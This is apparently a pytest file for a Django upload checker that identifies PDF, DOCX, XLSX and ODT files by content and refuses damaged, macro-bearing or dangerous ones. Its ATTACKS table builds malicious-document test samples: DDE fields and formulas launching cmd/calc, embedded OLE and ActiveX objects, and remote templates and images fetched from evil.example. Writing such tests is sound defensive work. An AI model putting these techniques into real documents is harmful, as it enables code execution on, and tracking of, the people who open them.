"""The type of a document is found in its content; what is of no known type, damaged or dangerous is refused."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from partnerships.files import document_reading, documents
from partnerships.uploads.refusals import Refused
from partnerships.vocabulary import DocumentType

PDF = b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer\n%%EOF\n"


def zipped(**parts):
    """Return a zip of `parts`: in their names, "__" stands for "/" and "_DOT_" for "."."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return file.getvalue()


DOCX = zipped(word__document_DOT_xml="<w/>")
XLSX = zipped(xl__workbook_DOT_xml="<x/>")
ODT = zipped(mimetype="application/vnd.oasis.opendocument.text", content_DOT_xml="<o/>")


def checked(content):
    """Return the type of a document that holds `content`."""
    return documents.check(io.BytesIO(content), len(content))


@pytest.mark.parametrize(
    ("content", "document_type"),
    [
        (PDF, DocumentType.PDF),
        (b"\xef\xbb\xbf" + PDF, DocumentType.PDF),
        (DOCX, DocumentType.DOCX),
        (XLSX, DocumentType.XLSX),
        (ODT, DocumentType.ODT),
    ],
    ids=["pdf", "pdf after a mark", "docx", "xlsx", "odt"],
)
def test_a_document_is_told_by_its_content(content, document_type):
    assert checked(content) == document_type


REFUSED = {
    "nothing": (b"", documents.EMPTY),
    "a web page": (b"<html><script>alert(1)</script></html>", document_reading.NOT_KNOWN),
    "a picture": (b"\x89PNG\r\n\x1a\n", document_reading.NOT_KNOWN),
    "an old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", document_reading.NOT_KNOWN),
    "a program in a zip": (zipped(setup_DOT_exe="MZ"), document_reading.NOT_KNOWN),
    "an OpenDocument spreadsheet": (
        zipped(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        document_reading.NOT_KNOWN,
    ),
    "a presentation": (zipped(ppt__presentation_DOT_xml="<p/>"), document_reading.NOT_KNOWN),
    "half a PDF": (PDF[:20], document_reading.IS_BROKEN),
    "half a zip": (DOCX[: len(DOCX) // 2], document_reading.IS_BROKEN),
    "macros": (zipped(word__document_DOT_xml="<w/>", word__vbaProject_DOT_bin="x"), document_reading.HAS_MACROS),
    "macros of OpenDocument": (
        zipped(mimetype="application/vnd.oasis.opendocument.text", Basic__script_DOT_xml="x"),
        document_reading.HAS_MACROS,
    ),
}


@pytest.mark.parametrize("description", REFUSED)
def test_what_is_no_document_of_ours_is_refused_in_words(description):
    content, message = REFUSED[description]

    with pytest.raises(ValidationError) as refusal:
        checked(content)

    assert refusal.value.messages == [message]


@pytest.mark.parametrize(("limit", "most"), [("MAX_UNPACKED_BYTES", 3), ("MAX_XML_BYTES", 3), ("MAX_PARTS", 0)])
def test_a_document_that_unpacks_to_too_much_is_refused(monkeypatch, limit, most):
    monkeypatch.setattr(document_reading, limit, most)

    with pytest.raises(Refused, match="damaged"):
        document_reading.type_of(DOCX)


RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind, target, mode="External"):
    """Return the part of a document that refers to `target`."""
    attributes = f'Id="r1" Type="{RELATION}/{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "")
    inside = f"<Relationship {attributes}/>"
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def docx(document="<w/>", **parts):
    """Return a Word document of the XML `document`, in which "w:" is Word's, and of other parts."""
    xml = f'<w:d xmlns:w="urn:w" xmlns:o="urn:o" xmlns:r="{RELATION}">{document}</w:d>'
    return zipped(word__document_DOT_xml=xml, **parts)


def odt(content="<o/>", **parts):
    """Return an OpenDocument text of the XML `content`, and of other parts."""
    xml = (
        '<office:d xmlns:office="urn:office" xmlns:text="urn:text" xmlns:draw="urn:draw" xmlns:script="urn:script" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink">{content}</office:d>'
    )
    return zipped(mimetype="application/vnd.oasis.opendocument.text", content_DOT_xml=xml, **parts)


def xlsx(sheet="<sheet/>", **parts):
    return zipped(xl__workbook_DOT_xml="<x/>", xl__worksheets__sheet1_DOT_xml=sheet, **parts)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
ATTACKS = {
    "an OLE object in Word": (docx(word__embeddings__oleObject1_DOT_bin=OLE), "embedded object"),
    "an OLE object under another name": (docx(word__media__image1_DOT_png=OLE), "embedded object"),
    "an element that is an OLE object": (docx('<o:OLEObject ProgID="Package"/>'), "embedded object"),
    "an ActiveX control": (docx(word__activeX__activeX1_DOT_bin="x"), "embedded object"),
    "a program": (docx(word__media__image1_DOT_png="MZ and more"), "embedded object"),
    "an OLE object in OpenDocument": (odt(**{"Object 1": OLE}), "embedded object"),
    "an OLE object in figures of a chart": (
        docx(word__embeddings__Sheet1_DOT_xlsx=xlsx(xl__embeddings__oleObject1_DOT_bin=OLE)),
        "embedded object",
    ),
    "figures in figures": (
        docx(word__embeddings__Sheet1_DOT_xlsx=xlsx(xl__embeddings__Sheet2_DOT_xlsx=xlsx())),
        "embedded object",
    ),
    "DDE in a field": (
        docx(FIELD.format('<w:r><w:instrText> DDEAUTO c:\\cmd "/k calc"</w:instrText></w:r>')),
        "starts another program",
    ),
    "DDE in pieces": (
        docx(FIELD.format("<w:r><w:instrText> DD</w:instrText></w:r><w:p/><w:r><w:instrText>E x</w:instrText></w:r>")),
        "starts another program",
    ),
    "DDE in a simple field": (docx('<w:fldSimple w:instr="dde excel sheet"/>'), "starts another program"),
    "DDE in a sheet": (xlsx(xl__externalLinks__externalLink1_DOT_xml="<e><ddeLink/></e>"), "starts another program"),
    "DDE in a formula": (xlsx("<s><c><f>cmd|'/C calc'!A0</f></c></s>"), "starts another program"),
    "DDE in OpenDocument": (odt("<office:dde-source/>"), "starts another program"),
    "macros of a sheet": (xlsx(xl__macrosheets__sheet1_DOT_xml="<x/>"), "macros"),
    "macros by their type": (
        docx(**{"[Content_Types]_DOT_xml": '<T><Override ContentType="application/x.macroEnabled.main+xml"/></T>'}),
        "macros",
    ),
    "a listener in OpenDocument": (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "macros"),
    "a template from elsewhere": (
        docx(word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "https://evil.example/t.dotm")),
        "from elsewhere",
    ),
    "a template from a share": (
        docx(word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "\\\\evil.example\\t.dotm")),
        "from elsewhere",
    ),
    "a template from a host by file": (
        docx(word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "file://evil.example/t.dotm", "")),
        "from elsewhere",
    ),
    "a picture from elsewhere": (
        docx(word___rels__document_DOT_xml_DOT_rels=relation("image", "http://evil.example/seen.png")),
        "from elsewhere",
    ),
    "an object from elsewhere": (
        docx(word___rels__document_DOT_xml_DOT_rels=relation("oleObject", "mhtml:http://evil.example/x!x-usc:y")),
        "from elsewhere",
    ),
    "a picture from elsewhere in OpenDocument": (odt('<draw:image xlink:href="//evil.example/a.png"/>'), "elsewhere"),
    "a section from elsewhere": (odt('<text:section-source xlink:href="http://evil.example/"/>'), "elsewhere"),
    "XML that grows": (
        zipped(word__document_DOT_xml='<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'),
        "damaged",
    ),
    "XML that grows, in UTF-16": (
        zipped(word__document_DOT_xml='<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'.encode("utf-16")),
        "damaged",
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_acts_when_somebody_opens_it_is_refused_and_named(name):
    content, words = ATTACKS[name]

    with pytest.raises(ValidationError, match=words):
        checked(content)


HARMLESS = {
    "a link": docx(word___rels__document_DOT_xml_DOT_rels=relation("hyperlink", "https://arts.example/")),
    "a template of its writer's": docx(
        word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "file:///C:\\Users\\Amina\\Letter.dotx")
    ),
    "a chart with its figures": docx(word__embeddings__Microsoft_Excel_Sheet1_DOT_xlsx=xlsx()),
    "a field for the page": docx(FIELD.format("<w:r><w:instrText> PAGE </w:instrText></w:r>")),
    "words about DDE": docx("<w:p><w:r><w:t>DDEAUTO is refused</w:t></w:r></w:p>"),
    "a formula": xlsx('<s><c><f>SUM(A1:A3)&amp;"a|b"</f></c></s>'),
    "a link in OpenDocument": odt('<text:a xlink:href="https://arts.example/">a</text:a><office:scripts/>'),
    "a picture in OpenDocument": odt('<draw:image xlink:href="Pictures/1.png"/>'),
    "an object in OpenDocument": odt('<draw:object xlink:href="./Object 1"/>'),
    "an empty part": docx(customXml__item1_DOT_xml=""),
    "a part in UTF-16": docx(customXml__item1_DOT_xml='<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_documents_usually_hold_is_taken(name):
    assert checked(HARMLESS[name]) in {DocumentType.DOCX, DocumentType.XLSX, DocumentType.ODT}


def test_a_document_whose_parts_do_not_add_up_is_refused():
    broken = bytearray(DOCX)
    broken[DOCX.index(b"<w/>")] ^= 1

    with pytest.raises(ValidationError, match="damaged"):
        checked(bytes(broken))


def test_a_document_may_be_as_large_as_that_and_not_larger(monkeypatch):
    monkeypatch.setattr(documents, "MAX_BYTES", len(PDF))

    with pytest.raises(ValidationError, match="20 MB"):
        checked(PDF + b"\n")

    assert checked(PDF) == DocumentType.PDF


def test_checking_leaves_the_document_at_its_beginning():
    document = io.BytesIO(DOCX)

    documents.check(document, len(DOCX))

    assert document.tell() == 0


def test_hidden_names_are_long_and_never_the_same():
    names = {documents.hidden_name(DocumentType.PDF) for _ in range(50)}

    assert (len(names), min(map(len, names)) > 30) == (50, True)
